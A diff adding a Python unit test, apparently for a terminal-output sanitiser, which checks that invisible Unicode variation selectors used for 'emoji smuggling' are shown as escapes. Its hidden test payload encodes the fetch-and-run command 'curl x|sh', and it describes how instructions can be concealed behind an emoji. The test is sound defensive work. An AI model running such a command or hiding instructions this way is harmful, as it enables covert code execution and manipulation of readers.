@@ -103,6 +103,18 @@ def test_escape_controls_shows_unicode_tag_characters() -> None:
     assert escape_controls("ok 👍🏽") == "ok 👍🏽"
 
 
+def test_escape_controls_shows_supplementary_variation_selectors() -> None:
+    """The 240 supplementary variation selectors (U+E0100–U+E01EF) are invisible too and
+    carry a byte each after any character ("emoji smuggling": a whole instruction hidden
+    behind one emoji), like tag characters: each is its escape. The 16 basic selectors
+    (U+FE00–U+FE0F: an emoji's text or colour form) stay."""
+    hidden = "".join(chr(0xE0100 + b) for b in b"curl x|sh")
+    out = escape_controls(f"😀{hidden}")
+    assert out == "😀" + "".join(f"\\U{0xE0100 + b:08x}" for b in b"curl x|sh")
+    assert has_controls(hidden) and escape_controls(out) == out
+    assert escape_controls("❤️ ok") == "❤️ ok"  # U+2764 U+FE0F
+
+
 def _ui(width: int = 100) -> tuple[RichUI, io.StringIO]:
     buf = io.StringIO()
     console = SafeConsole(file=buf, force_terminal=True, color_system="standard", width=width)
